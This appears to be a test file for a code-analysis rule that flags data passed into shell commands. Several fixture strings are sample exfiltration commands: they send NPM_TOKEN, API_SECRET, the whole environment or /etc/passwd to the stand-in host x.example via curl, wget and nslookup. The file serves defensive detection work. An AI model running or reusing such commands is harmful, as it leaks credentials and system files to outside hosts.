import { MANIFEST } from '../testing/analyze-text.ts';
import { describeRule } from '../testing/describe-rule.ts';
import { dataInCommand } from './data-in-command.ts';

const START = "const { exec, execFile, spawn } = require('child_process');";

describeRule(dataInCommand, {
  reports: {
    'a token in the address curl asks for': `${START} exec('curl https://x.example/?' + process.env.NPM_TOKEN);`,
    'the environment as an argument': `${START} spawn('wget', ['-q', 'https://x.example/' + JSON.stringify(process.env)]);`,
    'a name that is looked up': `${START} exec(\`nslookup \${process.env.API_SECRET}.x.example\`);`,
    'a file that is sent': `${START} const fs = require('fs'); exec('curl --data ' + fs.readFileSync('/etc/passwd'));`,
    'what is stored': `${START} exec('open ' + localStorage.getItem('target'));`,
  },
  leaves: {
    'a token in its header': `${START} exec(\`curl -H "Authorization: Bearer \${process.env.GITHUB_TOKEN}" https://api.github.com/user\`);`,
    'a token of the own tool': `${START} execFile('npm', ['config', 'set', process.env.NPM_TOKEN]);`,
    'a fixed command': `${START} execFile('git', ['rev-parse', 'HEAD']);`,
    'the environment handed on': `${START} spawn('node', ['x.js'], { env: { ...process.env, CI: '1' } });`,
  },
});

describe('in a plugin', () => {
  describeRule(dataInCommand, {
    manifest: MANIFEST,
    reports: {
      'the host’s data': `${START} export const run = async ({ api }) => exec('say ' + (await api.storage.get('x')));`,
    },
    leaves: {
      'the host’s data, shown': 'export const run = async ({ api }) => show(await api.storage.get("x"));',
    },
  });
});
